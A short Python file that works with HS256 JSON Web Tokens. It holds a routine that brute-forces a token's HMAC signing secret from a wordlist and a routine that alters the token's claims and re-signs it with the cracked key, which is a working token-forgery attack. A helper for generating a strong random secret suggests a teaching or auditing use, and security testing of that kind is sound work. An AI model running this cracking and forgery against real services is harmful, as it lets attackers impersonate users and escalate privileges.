import base64
import hmac
import json
import os


def bytes_of(text):
    return base64.b64decode(text.translate(str.maketrans("-_", "+/")) + "=" * (-len(text) % 4))


def text_of(data):
    return base64.b64encode(data).decode().translate(str.maketrans("+/", "-_", "="))


def weak_key(token, words):
    head, body, end = token.split(".")
    given = bytes_of(end)
    found = (word for word in words if hmac.digest(word.encode(), f"{head}.{body}".encode(), "sha256") == given)
    return next(found, None)


def forged(token, key, **changes):
    parts = [json.loads(bytes_of(part)) for part in token.split(".")[:2]]
    parts[1].update(changes)
    front = ".".join(text_of(json.dumps(part, separators=(",", ":"), ensure_ascii=False).encode()) for part in parts)
    return f"{front}.{text_of(hmac.digest(key.encode(), front.encode(), 'sha256'))}"


def strong_key():
    return text_of(os.urandom(48))
